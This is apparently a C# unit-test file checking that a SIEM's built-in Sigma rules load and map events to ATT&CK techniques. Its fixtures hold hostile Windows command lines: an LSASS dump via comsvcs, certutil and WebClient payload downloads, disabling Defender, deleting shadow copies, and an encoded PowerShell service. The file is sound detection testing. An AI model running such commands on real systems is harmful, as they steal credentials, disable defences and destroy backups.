using System.Globalization;
using System.Text.RegularExpressions;
using Llama3Siem.Prompts.Detection;
using Llama3Siem.Prompts.Detection.Sigma;
using Llama3Siem.Prompts.Events;
using Llama3Siem.Prompts.Knowledge;
using Llama3Siem.Prompts.Tests.Events;
using static Llama3Siem.Prompts.Tests.DetectionCases;
using static Llama3Siem.Prompts.Tests.TestEvents;

namespace Llama3Siem.Prompts.Tests.Detection;

/// <summary>
/// The built-in Sigma rules (Detection/BuiltIn): they load, say what they detect, cover every behaviour of
/// <see cref="DetectionCases.Behaviours"/>, and find on our events exactly the techniques of
/// Expected/built-in-techniques.tsv.
/// </summary>
public sealed partial class BuiltInSigmaRulesTests
{
    private const string ResourcePrefix = "Llama3Siem.Prompts.Detection.BuiltIn.";

    private static readonly SigmaLoadResult Loaded = BuiltInSigmaRules.Load();
    private static readonly SigmaRuleSet AllRules = new(Loaded.Rules);

    /// <summary>The rules that report on their own, by name (the base rules of a correlation only feed it).</summary>
    private static readonly Dictionary<string, SigmaRuleSet> RuleByName = Loaded.Rules
        .Where(rule => rule.ReportsOnItsOwn)
        .ToDictionary(rule => rule.Name!, rule => new SigmaRuleSet([rule]));

    public static TheoryData<string> TruePositives => new(BuiltInRuleExamples.All.Where(e => e.Fires).Select(e => e.Key));

    public static TheoryData<string> NearMisses => new(BuiltInRuleExamples.All.Where(e => !e.Fires).Select(e => e.Key));

    [Fact]
    public void Every_built_in_file_loads_and_reaches_events_we_normalise()
    {
        var files = ResourceNames();

        Assert.Empty(Loaded.Skipped);
        Assert.Equal(files.Count, Loaded.Rules.Select(r => r.Source).Concat(Loaded.Correlations.Select(c => c.Source)).Distinct().Count());
        Assert.All(Loaded.Rules, rule => Assert.True(rule.IsLogsourceMapped, rule.Source));
        Assert.All(Loaded.Correlations, correlation => Assert.True(correlation.IsResolved, correlation.Source));
    }

    [Fact]
    public void Every_rule_has_a_title_a_level_and_one_active_technique_with_its_tactics()
    {
        string[] levels = ["informational", "low", "medium", "high", "critical"];
        var reporting = Loaded.Rules.Where(r => r.ReportsOnItsOwn).Select(r => r.Metadata).Concat(Loaded.Correlations.Select(c => c.Metadata));
        Assert.All(reporting, rule =>
        {
            Assert.False(string.IsNullOrWhiteSpace(rule.Title), rule.Source);
            Assert.False(string.IsNullOrWhiteSpace(rule.Description), rule.Source);
            Assert.Equal("stable", rule.Status);
            Assert.Equal("Llama3Siem", rule.Author);
            Assert.Contains(rule.Level, levels);
            Assert.NotEmpty(rule.FalsePositives);

            var technique = Assert.Single(rule.Tags, t => TechniqueTag().IsMatch(t));
            Assert.True(ThreatKnowledge.BuiltIn.TryGetActiveTechnique(TechniqueOf(technique)!, out var known), technique);
            var tactics = rule.Tags.Where(t => t != technique).Select(t => t["attack.".Length..]).ToList();
            Assert.NotEmpty(tactics);
            Assert.All(tactics, tactic => Assert.Contains(tactic, known.Tactics));
        });
    }

    [Fact]
    public void Rule_ids_are_unique_version_4_uuids()
    {
        var ids = Loaded.Rules.Select(r => r.Id).Concat(Loaded.Correlations.Select(c => c.Id)).ToList();

        Assert.All(ids, id => Assert.Equal(4, Guid.Parse(id).Version));
        Assert.Equal(ids.Count, ids.Distinct(StringComparer.OrdinalIgnoreCase).Count());
    }

    [Fact]
    public void Each_file_is_named_for_its_rule_and_no_two_rules_share_a_name()
    {
        var names = ResourceNames().Select(resource =>
        {
            var file = Path.GetFileNameWithoutExtension(resource[ResourcePrefix.Length..]);
            var name = NameLine().Match(ResourceText(resource));
            Assert.True(name.Success, $"{file} has no name");
            Assert.Equal(file, name.Groups[1].Value);
            return file;
        }).ToList();

        Assert.Equal(names.Count, names.Distinct(StringComparer.Ordinal).Count());
    }

    [Fact]
    public void Every_behaviour_has_its_rules_and_each_gives_the_behaviour_technique()
    {
        var named = Loaded.Rules.Where(r => r.ReportsOnItsOwn).Select(r => (Name: r.Name!, r.Tags))
            .Concat(Loaded.Correlations.Select(c => (Name: c.Name!, c.Tags)))
            .ToLookup(rule => BehaviourOf(rule.Name));

        Assert.DoesNotContain(null, named.Select(group => group.Key));
        Assert.All(Behaviours, behaviour =>
        {
            Assert.True(named[behaviour.Key].Any(), $"{behaviour.Key} has no rule");
            Assert.All(named[behaviour.Key], rule => Assert.Equal([behaviour.Value], Techniques(rule.Tags)));
        });
    }

    [Fact]
    public void The_rules_find_the_expected_techniques_in_each_behaviour_case_and_none_in_benign_events()
    {
        var events = Behaviours.Keys.SelectMany(name => PositiveEvents(name).Select(e => ($"positive of {name} {e.Id}", e)))
            .Concat(Benign().Select(e => ($"benign {e.Id}", e)))
            .Concat(SameTechniqueTwice().Select(e => ($"same technique {e.Id}", e)));

        AssertExpectedTechniques(events);
    }

    [Fact]
    public void The_rules_find_the_expected_techniques_in_the_shipped_samples()
    {
        var events = SampleEvents().ToList();

        Assert.Contains(events, e => SigmaTechniques(e.Event).Count > 0);
        AssertExpectedTechniques(events);
    }

    [Fact]
    public void The_rules_find_the_expected_techniques_in_the_otrf_samples()
    {
        Assert.SkipWhen(RepositoryFiles.SharedSamples() is null, "The OTRF samples are not here: <repo>/../shared/data/samples is absent.");

        AssertExpectedTechniques(OtrfEvents());
    }

    [Fact]
    public void The_thresholds_fire_on_the_whole_burst_and_not_below_it()
    {
        var engine = DetectionEngine.BuiltIn;

        foreach (var (name, technique, threshold) in new[] { ("failed-logon-burst", "T1110", 5), ("mass-file-encryption", "T1486", 25) })
        {
            var burst = PositiveEvents(name);
            var found = Assert.Single(engine.Detect(burst).Techniques, t => t.TechniqueId == technique);
            Assert.Equal(burst.Select(e => e.Id).Order(StringComparer.Ordinal), found.EventIds);
            Assert.DoesNotContain(engine.Detect(burst.Take(threshold - 1).ToList()).Techniques, t => t.TechniqueId == technique);
        }
    }

    [Theory]
    [MemberData(nameof(TruePositives))]
    public void A_rule_fires_on_its_example(string key)
    {
        var example = BuiltInRuleExamples.All.Single(e => e.Key == key);

        Assert.Single(RuleByName[example.Rule].Match(example.Event));
    }

    [Theory]
    [MemberData(nameof(NearMisses))]
    public void A_rule_stays_quiet_on_its_near_miss(string key)
    {
        var example = BuiltInRuleExamples.All.Single(e => e.Key == key);

        Assert.Empty(RuleByName[example.Rule].Match(example.Event));
    }

    [Fact]
    public void Every_rule_has_a_true_positive_and_a_near_miss_example()
    {
        Assert.All(RuleByName.Keys, name =>
        {
            Assert.Contains(BuiltInRuleExamples.All, e => e.Rule == name && e.Fires);
            Assert.Contains(BuiltInRuleExamples.All, e => e.Rule == name && !e.Fires);
        });
        Assert.All(BuiltInRuleExamples.All, e => Assert.Contains(e.Rule, RuleByName.Keys));
        Assert.Equal(BuiltInRuleExamples.All.Count, BuiltInRuleExamples.All.Select(e => e.Key).Distinct().Count());
    }

    /// <summary>
    /// Forms of the same behaviour that the hand-written rules of earlier versions were too literal for, each with the
    /// technique found now.
    /// </summary>
    public static TheoryData<string, string> CaughtNow => new()
    {
        { "comsvcs MiniDumpW export", "T1003.001" },
        { "sc.exe started by its quoted path", "T1543.003" },
        { "-EncodedCommand after an en dash", "T1059.001" },
        { "WebClient kept in a variable", "T1105" },
        { "certutil /urlcache with a slash", "T1105" },
        { "Set-MpPreference with a colon", "T1562.001" },
        { "Defender switched off in the registry", "T1562.001" },
        { "net user /add without a password", "T1136.001" },
        { "net.exe by its quoted path", "T1087.002" },
    };

    [Theory]
    [MemberData(nameof(CaughtNow))]
    public void The_rules_catch_forms_a_literal_match_would_miss(string form, string technique)
    {
        var evt = form switch
        {
            "comsvcs MiniDumpW export" => Windows("v", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe comsvcs.dll,MiniDumpW 624 C:\t\l.dmp full"),
            "sc.exe started by its quoted path" => Windows("v", "1", @"C:\Windows\System32\sc.exe", @"""C:\Windows\system32\sc.exe"" \\SRV-FILE02 create UpdSvc binPath= C:\t\u.exe"),
            "-EncodedCommand after an en dash" => Windows("v", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", $"powershell \u2013enc {Encoded}"),
            "WebClient kept in a variable" => ScriptBlock("v", "$wc = New-Object System.Net.WebClient; $wc.DownloadFile('http://203.0.113.9/a.exe', \"$env:TEMP\\a.exe\")"),
            "certutil /urlcache with a slash" => Windows("v", "1", @"C:\Windows\System32\certutil.exe", @"certutil /urlcache /split /f http://203.0.113.9/a.exe C:\t\a.exe"),
            "Set-MpPreference with a colon" => ScriptBlock("v", "Set-MpPreference -DisableRealtimeMonitoring:$true"),
            "Defender switched off in the registry" => Windows("v", "13", @"C:\Windows\regedit.exe",
                fields: [("TargetObject", @"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring"), ("Details", "DWORD (0x00000001)")]),
            "net user /add without a password" => Windows("v", "1", @"C:\Windows\System32\net.exe", "net user helpdesk_tmp /add"),
            "net.exe by its quoted path" => Windows("v", "1", @"C:\Windows\System32\net.exe", @"""C:\Windows\system32\net.exe"" group ""Domain Admins"" /domain"),
            _ => throw new ArgumentOutOfRangeException(nameof(form)),
        };

        Assert.Contains(technique, SigmaTechniques(evt));
    }

    [Fact]
    public void The_exit_of_a_discovery_tool_is_not_a_second_discovery()
    {
        var exit = EventParsing.Parsed("""
            {"EventID":4689,"Channel":"Security","Hostname":"WS-FIN-07","TimeCreated":"2026-03-02T09:10:03Z",
             "ProcessName":"C:\\Windows\\System32\\whoami.exe","Status":"0x0","SubjectUserName":"j.doe"}
            """);

        Assert.Empty(SigmaTechniques(exit));
    }

    [Fact]
    public void The_ids_rules_read_alerts_not_names_in_other_suricata_records()
    {
        var http = EventParsing.Parsed("""
            {"timestamp":"2026-03-02T09:00:00.000000+0000","event_type":"http","src_ip":"10.20.1.57","src_port":51000,
             "dest_ip":"13.107.5.88","dest_port":80,"proto":"TCP","http":{"hostname":"telemetry.example.com","url":"/beacon/v2"},
             "host":"ids-core-01"}
            """);

        Assert.Empty(SigmaTechniques(http));
    }

    [Fact]
    public void A_tool_named_in_a_script_block_is_left_to_its_own_process_start()
    {
        // Earlier hand-written rules read a script block as the event's command line. Process rules read process starts:
        // vssadmin run from the script has its own, and the script-block rules keep to PowerShell's own cmdlets.
        var script = EventParsing.Parsed("""
            {"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Hostname":"WS-FIN-07",
             "TimeCreated":"2026-03-02T09:30:00Z","ScriptBlockText":"& vssadmin.exe delete shadows /all /quiet"}
            """);

        Assert.Empty(SigmaTechniques(script));
    }

    [Fact]
    public void A_service_whose_image_path_is_an_encoded_launcher_is_a_service_install_until_it_starts()
    {
        // Earlier hand-written rules read the image path as the event's command line; the PowerShell it starts is a process start
        // of its own, which the encoded-command rules see.
        var install = EventParsing.Parsed($$"""
            {"EventID":7045,"Channel":"System","Hostname":"SRV-FILE02","TimeCreated":"2026-03-02T09:35:04Z",
             "ServiceName":"UpdSvc","ImagePath":"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc {{Encoded}}"}
            """);

        Assert.Equal(["T1543.003"], SigmaTechniques(install));
    }

    private static void AssertExpectedTechniques(IEnumerable<(string Label, SecurityEvent Event)> events)
    {
        var expected = ExpectedTechniques.Value;
        var differences = events
            .Select(e => (e.Label, Expected: expected.GetValueOrDefault(e.Label, []), Found: SigmaTechniques(e.Event)))
            .Where(e => !e.Expected.SequenceEqual(e.Found))
            .Select(e => $"{e.Label}: expected [{string.Join(' ', e.Expected)}], found [{string.Join(' ', e.Found)}]")
            .ToList();

        Assert.Empty(differences);
    }

    /// <summary>Expected/built-in-techniques.tsv: label, tab, the techniques; an event not listed gives none.</summary>
    private static readonly Lazy<Dictionary<string, List<string>>> ExpectedTechniques = new(() =>
        File.ReadLines(Path.Combine(RepositoryFiles.Root(), "tests", "Llama3Siem.Prompts.Tests", "Detection", "Expected", "built-in-techniques.tsv"))
            .Where(line => line.Length > 0 && line[0] != '#')
            .Select(line => line.Split('\t'))
            .ToDictionary(cells => cells[0], cells => cells[1].Split(' ').ToList(), StringComparer.Ordinal));

    /// <summary>What the rules find in the event alone (a correlation needs more than one event).</summary>
    private static List<string> SigmaTechniques(SecurityEvent evt) =>
        Techniques(AllRules.Match(evt).Where(m => m.Rule.ReportsOnItsOwn).SelectMany(m => m.Tags));

    private static List<string> Techniques(IEnumerable<string> tags) =>
        tags.Select(TechniqueOf).OfType<string>().Distinct(StringComparer.Ordinal).Order(StringComparer.Ordinal).ToList();

    /// <summary><c>attack.t1003.001</c> to <c>T1003.001</c>; null for a tactic or another tag.</summary>
    private static string? TechniqueOf(string tag) =>
        TechniqueTag().IsMatch(tag) ? tag["attack.".Length..].ToUpperInvariant() : null;

    /// <summary>
    /// The behaviour a rule covers: the one of its name, or the longest whose name it extends with "-shape" where
    /// Sigma's logsources split a behaviour by event shape.
    /// </summary>
    private static string? BehaviourOf(string name) =>
        Behaviours.Keys
            .Where(behaviour => name == behaviour || name.StartsWith(behaviour + "-", StringComparison.Ordinal))
            .MaxBy(behaviour => behaviour.Length);

    private static List<string> ResourceNames() =>
        typeof(BuiltInSigmaRules).Assembly.GetManifestResourceNames()
            .Where(name => name.StartsWith(ResourcePrefix, StringComparison.Ordinal))
            .Order(StringComparer.Ordinal)
            .ToList();

    private static string ResourceText(string resource)
    {
        using var stream = typeof(BuiltInSigmaRules).Assembly.GetManifestResourceStream(resource)!;
        using var reader = new StreamReader(stream);
        return reader.ReadToEnd();
    }

    [GeneratedRegex(@"^attack\.t\d{4}(\.\d{3})?$")]
    private static partial Regex TechniqueTag();

    [GeneratedRegex(@"^name: (\S+)$", RegexOptions.Multiline)]
    private static partial Regex NameLine();
}
